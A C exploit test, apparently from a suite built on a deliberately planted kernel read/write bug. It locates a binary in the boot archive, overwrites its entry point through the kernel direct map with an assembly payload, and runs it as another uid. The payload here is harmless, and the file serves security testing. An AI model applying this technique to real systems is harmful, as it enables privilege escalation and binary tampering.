/* A program of the boot archive runs as a user of its own, whoever starts it: its code is
 * overwritten where the archive lies. */
#include <elf.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define VICTIM "bin/caged"
enum { BLOCK_BYTES = 512, UID_BASE = 1000 };

/* Exits with its uid, less UID_BASE. */
extern const char payload[], payload_end[];
__asm__(".section .rodata\n.balign 8\n.globl payload, payload_end\n"
	"payload:\n mov $102, %eax\n syscall\n mov %eax, %edi\n sub $1000, %edi\n"
	" mov $231, %eax\n syscall\n .balign 8\npayload_end:\n.text\n");

static void read_kernel(uint64_t from, void *to, size_t nr_bytes)
{
	for (size_t at = 0; at < nr_bytes; at += sizeof(uint64_t)) {
		uint64_t word = (uint64_t)bw_vuln_read(from + at);

		memcpy((char *)to + at, &word,
		       nr_bytes - at < sizeof(word) ? nr_bytes - at : sizeof(word));
	}
}

/* Where the archive has the bytes of the file, from its first byte on; 0: it does not have it. */
static uint64_t find_file(const struct bw_leak *leak)
{
	char name[sizeof(VICTIM)];

	for (uint64_t at = 0; at < leak->archive_bytes; at += BLOCK_BYTES) {
		read_kernel(leak->archive + at, name, sizeof(name));
		if (memcmp(name, VICTIM, sizeof(name)) == 0) {
			return at + BLOCK_BYTES;
		}
	}
	return 0;
}

/* Where the file has the instruction that it starts with. */
static uint64_t entry_offset(uint64_t file)
{
	Elf64_Ehdr header;
	Elf64_Phdr segment;

	read_kernel(file, &header, sizeof(header));
	for (unsigned int i = 0; i < header.e_phnum; i++) {
		read_kernel(file + header.e_phoff + i * sizeof(segment), &segment, sizeof(segment));
		if (segment.p_type == PT_LOAD &&
		    header.e_entry - segment.p_vaddr < segment.p_filesz) {
			return segment.p_offset + header.e_entry - segment.p_vaddr;
		}
	}
	attack_skip(VICTIM " starts nowhere");
}

int main(void)
{
	struct bw_leak leak;
	uint64_t file, code;
	int status = 0;

	attack_leak(&leak);
	file = find_file(&leak);
	if (file == 0) {
		attack_skip("there is no " VICTIM);
	}
	code = leak.archive_alias + file + entry_offset(leak.archive + file);
	attack_say("%s starts with what the direct map would have at 0x%lx", VICTIM, code);
	for (size_t at = 0; at < (size_t)(payload_end - payload); at += sizeof(uint64_t)) {
		uint64_t word;

		memcpy(&word, payload + at, sizeof(word));
		attack_check("vuln_write", bw_vuln_write(code + at, word));
	}
	if (fork() == 0) {
		execl("/" VICTIM, VICTIM, (char *)NULL);
		_exit(1);
	}
	wait(&status);
	attack_say("code of the attacker's ran there as uid %d", UID_BASE + WEXITSTATUS(status));
	return attack_finish();
}
